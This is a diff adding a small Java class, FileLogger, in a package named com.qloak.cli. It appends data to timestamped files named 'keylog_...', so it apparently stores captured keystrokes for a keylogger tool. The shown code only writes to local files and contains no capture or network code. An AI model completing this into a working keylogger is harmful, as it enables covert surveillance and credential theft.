@@ -0,0 +1,31 @@
+package com.qloak.cli;
+
+import java.io.FileWriter;
+import java.io.IOException;
+import java.time.LocalDateTime;
+import java.time.format.DateTimeFormatter;
+
+class FileLogger {
+    private final String outputPath;
+
+    public FileLogger(String outputPath) {
+        this.outputPath = outputPath;
+    }
+
+    public void save(String data) {
+        if (data == null || data.isEmpty()) return;
+
+        String filename = generateFilename();
+        try (FileWriter writer = new FileWriter(filename, true)) {
+            writer.write(data);
+        } catch (IOException e) {
+            e.printStackTrace();
+        }
+    }
+
+    private String generateFilename() {
+        LocalDateTime now = LocalDateTime.now();
+        DateTimeFormatter formatter = DateTimeFormatter.ofPattern("yyyy-MM-dd_HH-mm-ss");
+        return outputPath + "keylog_" + now.format(formatter) + ".txt";
+    }
+}